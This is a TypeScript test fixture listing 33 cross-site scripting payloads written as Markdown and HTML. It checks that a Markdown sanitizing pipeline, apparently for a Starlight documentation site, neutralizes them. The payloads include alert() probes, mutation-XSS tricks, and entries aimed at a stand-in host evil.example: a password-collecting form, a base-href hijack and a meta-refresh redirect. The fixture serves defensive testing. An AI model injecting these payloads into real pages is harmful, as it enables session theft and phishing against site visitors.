/**
 * Known cross-site scripting payloads as an author could write them in Markdown: raw HTML,
 * attribute tricks, URL schemes and Markdown links. Each must come out of the pipeline dead.
 */
export const XSS_PAYLOADS = [
  '<script>alert("mp-xss-1")</script>',
  '<img src="x" onerror="alert(\'mp-xss-2\')">',
  '<a href="javascript:alert(\'mp-xss-3\')">click</a>',
  '<a href="JaVaScRiPt:alert(\'mp-xss-4\')">click</a>',
  '<a href="java\tscript:alert(\'mp-xss-5\')">click</a>',
  '<iframe src="https://example.com/mp-xss-6"></iframe>',
  '<object data="mp-xss-7.swf"></object>',
  '<embed src="mp-xss-8.swf">',
  '<style>body { display: none } /* mp-xss-9 */</style>',
  '<div onclick="alert(\'mp-xss-10\')">click</div>',
  '<svg onload="alert(\'mp-xss-11\')"><circle r="1"/></svg>',
  '<details open ontoggle="alert(\'mp-xss-12\')"><summary>x</summary></details>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnbXAteHNzLTEzJyk8L3NjcmlwdD4=">data</a>',
  '[link](javascript:alert(\'mp-xss-14\'))',
  '<math><mtext><script>alert("mp-xss-15")</script></mtext></math>',
  '<p style="position:fixed;inset:0;background:url(mp-xss-16)">overlay</p>',
  '<form action="https://evil.example/mp-xss-17"><input name="password"></form>',
  '<base href="https://evil.example/mp-xss-18/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/mp-xss-19">',
  '<img src="x" oNeRrOr=alert(\'mp-xss-20\')>',
  '<!--<img src=x onerror=alert("mp-xss-21")>-->',
  '<table><tr><td background="javascript:alert(\'mp-xss-22\')">cell</td></tr></table>',
  // Dangerous markup inside an element that is unwrapped: its children must be judged too.
  '<custom-tag><script>alert("mp-xss-23")</script></custom-tag>',
  '<center><img src="x" onerror="alert(\'mp-xss-24\')"></center>',
  '<font><a href="javascript:alert(\'mp-xss-25\')">click</a></font>',
  '<x-a><x-b><x-c><iframe srcdoc="&lt;script&gt;alert(\'mp-xss-26\')&lt;/script&gt;"></iframe></x-c></x-b></x-a>',
  '<svg><foreignObject><img src="x" onerror="alert(\'mp-xss-27\')"></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(\'mp-xss-28\')">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(\'mp-xss-29\')>"></noscript>',
  // An imitation of Starlight's aside icon keeps only the drawing.
  '<aside class="starlight-aside"><p class="starlight-aside__title"><svg class="starlight-aside__icon" onload="alert(\'mp-xss-30\')"><a href="javascript:alert(\'mp-xss-31\')"><path d="M0 0"/></a><script>alert("mp-xss-32")</script></svg>Note</p></aside>',
  '<input type="text" autofocus onfocus="alert(\'mp-xss-33\')">',
] as const;
